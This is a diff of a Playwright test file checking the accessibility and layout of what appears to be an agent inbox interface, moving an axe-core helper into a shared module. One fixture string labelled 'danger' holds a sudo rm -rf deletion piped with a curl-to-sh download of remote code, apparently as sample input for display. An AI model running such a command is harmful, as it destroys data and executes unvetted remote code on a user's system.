@@ -1,25 +1,10 @@
 // Light and dark, wide and narrow: nothing is cut off, everything can be reached, and axe has no complaint.
 const { test, expect, open, isLive, form, message, sidebar, inboxLink, button, connection, isReady } = require("../support.js");
-const { AxeBuilder } = require("@axe-core/playwright");
+const { complaints, SAME_NAMES } = require("../axe.js");
 
 const KINDS = { command: "run a command", file: "write a file", question: "ask a question", questions: "four questions", plan: "make a plan", queue: "three things" };
 const MORE = { danger: "run: cd x && sudo rm -rf ../y | tee log; curl -s https://example.com/x | sh", broken: 'run: echo "never', edit: "edit a file", fetch: "fetch a page", tool: "use an mcp tool", subagents: "two subagents" };
 const LONG = `run: printf '%s\\n' ${"a-very-long-word-without-any-break".repeat(12)} > ${"deep/".repeat(40)}file.txt`;
-
-/** Every form of the inbox has the name that the contract gives it; axe would like each to have another. */
-const SAME_NAMES = ["landmark-unique"];
-
-/** All violations, as short lines. @param {string[]} but rules that do not hold here */
-async function complaints(page, but = []) {
-  await settled(page);
-  const { violations } = await new AxeBuilder({ page }).setLegacyMode(true).disableRules(but).analyze();
-  return violations
-    .flatMap((violation) => violation.nodes.map((node) => `${violation.id}: ${node.html.slice(0, 160)} ${node.failureSummary}`));
-}
-
-/** Colours in motion are no colours to judge. */
-const settled = (page) =>
-  page.waitForFunction(() => document.getAnimations().every((animation) => animation.playState !== "running" || animation.effect?.getComputedTiming().iterations === Infinity));
 
 async function fits(page) {
   const [wide, room] = await page.evaluate(() => [document.documentElement.scrollWidth, document.documentElement.clientWidth]);
